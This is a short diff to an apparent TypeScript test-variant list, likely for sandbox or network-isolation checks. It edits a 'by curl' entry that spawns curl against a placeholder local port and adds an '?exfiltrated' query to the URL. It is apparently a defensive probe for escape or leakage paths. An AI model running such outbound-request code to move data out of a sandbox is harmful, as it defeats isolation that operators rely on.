@@ -135,7 +135,7 @@ const out: Variant[] = [
   ],
   [
     "by curl",
-    "import { spawnSync } from 'node:child_process'; console.log(String(spawnSync('curl', ['-m', '1', 'http://127.0.0.1:OUTSIDE_PORT/']).stderr));",
+    "import { spawnSync } from 'node:child_process'; console.log(String(spawnSync('curl', ['-m', '1', 'http://127.0.0.1:OUTSIDE_PORT/?exfiltrated']).stderr));",
   ],
   [
     "to docker",
